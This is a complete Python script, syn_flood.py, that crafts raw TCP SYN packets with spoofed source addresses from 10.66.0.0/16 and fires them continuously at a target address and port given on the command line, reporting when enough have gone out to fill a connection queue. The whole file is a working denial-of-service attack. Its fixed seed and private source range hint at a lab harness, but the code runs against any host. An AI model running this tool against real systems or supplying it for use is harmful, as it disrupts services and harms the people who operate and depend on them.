"""Handshakes that nobody ever finishes: syn_flood.py ADDRESS PORT

Sends SYNs from 10.66.0.0/16, where nobody answers, until SIGTERM; says `flooding` when there have been enough of them to
fill a queue, and at the end how many there were.
"""

import random
import signal
import socket
import struct
import sys
import time

ENOUGH, AT_ONCE = 5000, 64


def total(data):
    words = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    words = (words >> 16) + (words & 0xFFFF)
    return ~(words + (words >> 16)) & 0xFFFF


def syn(source, port, target, draw):
    fields = (draw.randrange(1024, 65536), port, draw.getrandbits(32), 0, 5 << 4, 2, 65535)
    bare = struct.pack("!HHIIBBHHH", *fields, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(bare))
    tcp = struct.pack("!HHIIBBHHH", *fields, total(pseudo + bare), 0)
    # The kernel fills in length and checksum.
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0, source, target) + tcp


def main():
    target, port = socket.inet_aton(sys.argv[1]), int(sys.argv[2])
    draw = random.Random(48)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    sent, said = 0, False
    try:
        while True:
            for _ in range(AT_ONCE):
                source = bytes([10, 66, draw.randrange(256), draw.randrange(1, 255)])
                raw.sendto(syn(source, port, target, draw), (sys.argv[1], 0))
            sent += AT_ONCE
            if sent >= ENOUGH and not said:
                said = True
                print("flooding", flush=True)
            time.sleep(0.002)
    finally:
        print(sent, flush=True)


main()
